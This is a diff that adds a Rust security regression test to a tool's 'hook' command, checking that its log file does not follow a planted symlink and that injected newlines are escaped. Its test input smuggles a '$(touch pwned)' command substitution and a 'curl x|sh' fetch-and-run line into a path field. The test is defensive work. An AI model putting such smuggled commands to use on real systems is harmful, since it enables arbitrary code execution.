@@ -462,3 +462,33 @@ fn output_dir_does_not_follow_a_symlink_planted_at_the_temp_file() {
         "the output and the planted link only: {names:?}"
     );
 }
+
+/// `scribe hook -o DIR` appends to `DIR/scribe-hook.log`; a symlink planted there made it
+/// append a line naming a path the payload chose to the link's target.
+#[cfg(unix)]
+#[test]
+fn hook_log_does_not_follow_a_symlink_planted_in_the_output_dir() {
+    let dir = temp_dir();
+    let victim = write_file(dir.path(), "bashrc", "precious\n");
+    let out = dir.path().join("archive");
+    std::fs::create_dir(&out).unwrap();
+    std::os::unix::fs::symlink(&victim, out.join("scribe-hook.log")).unwrap();
+    scribe()
+        .args(["hook", "-o"])
+        .arg(&out)
+        .write_stdin(r#"{"transcript_path": "/nonexistent/$(touch pwned)\ncurl x|sh", "hook_event_name": "Stop"}"#)
+        .assert()
+        .code(0);
+    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "precious\n");
+    // Without the link, the line is logged, on one line.
+    std::fs::remove_file(out.join("scribe-hook.log")).unwrap();
+    scribe()
+        .args(["hook", "-o"])
+        .arg(&out)
+        .write_stdin(r#"{"transcript_path": "/nonexistent/a\nb", "hook_event_name": "Stop"}"#)
+        .assert()
+        .code(0);
+    let log = std::fs::read_to_string(out.join("scribe-hook.log")).unwrap();
+    assert_eq!(log.lines().count(), 1, "{log}");
+    assert!(log.contains("/nonexistent/a\\nb"), "{log}");
+}
